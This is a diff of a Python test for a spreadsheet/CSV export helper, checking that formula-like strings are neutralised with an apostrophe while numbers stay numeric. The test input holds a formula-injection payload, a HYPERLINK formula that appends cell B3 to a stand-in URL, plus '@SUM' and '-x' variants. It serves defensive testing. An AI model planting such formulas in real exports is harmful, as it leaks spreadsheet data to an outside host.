@@ -75,8 +75,8 @@ def test_spreadsheet_neutralises_text_and_keeps_numbers():
 
     from madoguchi.core import spreadsheet
 
-    row = ["=HYPERLINK(\"http://x\"&B3,\"詳細\")", -3000, "-3000", Decimal("-1.5"), "-x", "@SUM(A1)", "普通の文字", None, 0]
-    assert spreadsheet.csv_row(row) == ["'=HYPERLINK(\"http://x\"&B3,\"詳細\")", "-3000", "-3000", "-1.5", "'-x", "'@SUM(A1)", "普通の文字", "", "0"]
+    row = ['=HYPERLINK("http://x"&B3,"詳細")', -3000, "-3000", Decimal("-1.5"), "-x", "@SUM(A1)", "普通の文字", None, 0]
+    assert spreadsheet.csv_row(row) == ['\'=HYPERLINK("http://x"&B3,"詳細")', "-3000", "-3000", "-1.5", "'-x", "'@SUM(A1)", "普通の文字", "", "0"]
     for write_only in (False, True):
         book = spreadsheet.workbook(write_only=write_only)
         sheet = book.create_sheet("s") if write_only else book.active
@@ -88,4 +88,6 @@ def test_spreadsheet_neutralises_text_and_keeps_numbers():
         assert cells[1] == -3000 and cells[3] == -1.5
     buf = io.StringIO()
     spreadsheet.csv_writer(buf).writerow(row[:2])
-    assert buf.getvalue() == "'=HYPERLINK(\"http://x\"&B3,\"詳細\")\",-3000\r\n".replace("'=HYPERLINK(\"http://x\"&B3,\"詳細\")\"", "\"'=HYPERLINK(\"\"http://x\"\"&B3,\"\"詳細\"\")\"")
+    assert buf.getvalue() == '\'=HYPERLINK("http://x"&B3,"詳細")",-3000\r\n'.replace(
+        '\'=HYPERLINK("http://x"&B3,"詳細")"', '"\'=HYPERLINK(""http://x""&B3,""詳細"")"'
+    )
